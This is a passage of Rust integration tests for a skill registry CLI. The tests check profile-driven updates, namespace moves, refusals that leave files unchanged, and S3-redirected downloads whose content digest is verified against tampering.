    // An edited folder of the dropped skill stays, with a warning that says how to go on.
    std::fs::write(dev.path(".claude/skills/lint/notes.md"), "mine\n").unwrap();
    let updated = dev.run(&["--json", "update"]).ok();
    assert!(
        updated
            .stderr
            .contains("profile acme/frontend no longer holds acme/lint, but it was kept")
            && updated.stderr.contains("--force"),
        "{}",
        updated.stderr
    );
    assert!(dev.path(".claude/skills/lint/notes.md").is_file());
    assert!(dev.path(".claude/skills/review/SKILL.md").is_file());
    let lock = std::fs::read_to_string(dev.path("skills.lock")).unwrap();
    assert!(
        lock.contains("id = \"acme/pdf\"\nversion = \"1.1.0\""),
        "the bound skill's new version: {lock}"
    );
    let forced = dev.run(&["--json", "update", "--force"]).ok().json();
    let removed: Vec<&str> = forced["updated"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|row| row["removed"] == true)
        .filter_map(|row| row["id"].as_str())
        .collect();
    assert_eq!(removed, ["acme/lint"]);
    assert!(!dev.path(".claude/skills/lint").exists());
    let lock = std::fs::read_to_string(dev.path("skills.lock")).unwrap();
    assert!(!lock.contains("acme/lint"), "{lock}");
    let check = dev.run(&["sync", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);

    // A bound skill moves to another namespace: the profile holds it still, under its new
    // id, and the project follows.
    admin.run(&["namespace", "create", "team"]).ok();
    let moved = admin.run(&["move", "acme/pdf", "team"]).ok();
    assert!(
        moved.stdout.contains("moved acme/pdf to team/pdf"),
        "{}",
        moved.stdout
    );
    let shown = admin.run(&["profile", "show", "acme/frontend"]).ok();
    assert!(shown.stdout.contains("  team/pdf  ^1"), "{}", shown.stdout);
    dev.run(&["update"]).ok();
    let lock = std::fs::read_to_string(dev.path("skills.lock")).unwrap();
    assert!(
        lock.contains("id = \"team/pdf\"") && !lock.contains("acme/pdf"),
        "{lock}"
    );
    let marker = std::fs::read_to_string(dev.path(".claude/skills/pdf/.skillreg.toml")).unwrap();
    assert!(marker.contains("team/pdf"), "{marker}");
    let check = dev.run(&["sync", "--check"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);

    // A skill the project asks for itself stays when the profile drops it.
    dev.run(&["install", "acme/review"]).ok();
    admin
        .run(&["profile", "remove", "acme/frontend", "acme/review"])
        .ok();
    dev.run(&["update"]).ok();
    assert!(dev.path(".claude/skills/review/SKILL.md").is_file());

    // Refusals name what failed, and change nothing.
    let before = (
        std::fs::read(dev.path("skills.toml")).unwrap(),
        std::fs::read(dev.path("skills.lock")).unwrap(),
    );
    let missing = dev.run(&["install", "--profile", "acme/backend"]);
    assert_ne!(missing.code, 0);
    assert!(
        missing.stderr.contains("profile `acme/backend` not found"),
        "{}",
        missing.stderr
    );
    let bad = dev.run(&["install", "--profile", "backend"]);
    assert_eq!(bad.code, 2, "{}", bad.stderr);
    assert!(bad.stderr.contains("names no namespace"), "{}", bad.stderr);
    assert_eq!(
        (
            std::fs::read(dev.path("skills.toml")).unwrap(),
            std::fs::read(dev.path("skills.lock")).unwrap(),
        ),
        before
    );
    let stranger = User::new(&server.url, None);
    let refused = stranger.run(&["profile", "create", "acme/mine"]);
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains("error:"), "{}", refused.stderr);
}

#[test]
fn downloads_redirect_to_the_bucket_and_are_still_checked() {
    let s3 = skillreg_testkit::s3_server::S3Server::start();
    s3.create_bucket("skills");
    let config_dir = tempfile::tempdir().unwrap();
    let config = config_dir.path().join("serve.toml");
    let mut text = "blob_url = \"s3://skills/registry\"\nblob_redirect = true\n\n[s3]\n".to_owned();
    for (key, value) in s3.options() {
        text.push_str(&format!("{key} = \"{value}\"\n"));
    }
    std::fs::write(&config, text).unwrap();
    let server = serve_with(&["--config", config.to_str().unwrap()]);
    let admin = User::new(&server.url, Some(server.admin_token()));
    let library = tempfile::tempdir().unwrap();
    let dir = write_skill(library.path(), "notes", "1.0.0", "echo notes\n");
    admin
        .run(&["publish", dir.to_str().unwrap(), "--namespace", "acme"])
        .ok();

    // The registry answers a download with a short-lived URL of the bucket.
    let mut stream = std::net::TcpStream::connect(server.address()).unwrap();
    write!(
        stream,
        "GET /api/v1/skills/acme/notes/-/download HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        server.address()
    )
    .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 307"), "{answer}");
    let location = answer
        .lines()
        .find_map(|line| line.strip_prefix("location: "))
        .unwrap_or_else(|| panic!("no location: {answer}"));
    assert!(
        location.starts_with(&format!("{}/skills/registry/sha256/", s3.endpoint())),
        "{location}"
    );
    assert!(location.contains("X-Amz-Signature="), "{location}");

    // The client follows it and installs what was published.
    let dev = User::new(&server.url, None);
    dev.run(&[
        "install",
        "acme/notes",
        "--scope",
        "project",
        "--client",
        "claude-code",
    ])
    .ok();
    assert_eq!(
        std::fs::read(dev.path(".claude/skills/notes/scripts/run.sh")).unwrap(),
        b"echo notes\n"
    );

    // Other bytes in the bucket are refused by the client, and nothing is written.
    let digest = location
        .split("/sha256/")
        .nth(1)
        .and_then(|rest| rest.split('?').next())
        .unwrap()
        .to_owned();
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(s3.put_object(
            "skills",
            &format!("registry/sha256/{digest}"),
            b"not the archive",
        ));
    let other = User::new(&server.url, None);
    let refused = other.run(&[
        "install",
        "acme/notes",
        "--scope",
        "project",
        "--client",
        "claude-code",
    ]);
    assert_ne!(refused.code, 0, "{}", refused.stdout);
    assert!(
        refused.stderr.contains("digest"),
        "the refusal names the digest: {}",
        refused.stderr
    );
    assert!(!other.path(".claude/skills/notes").exists());
    assert!(!other.path("skills.lock").exists());
}
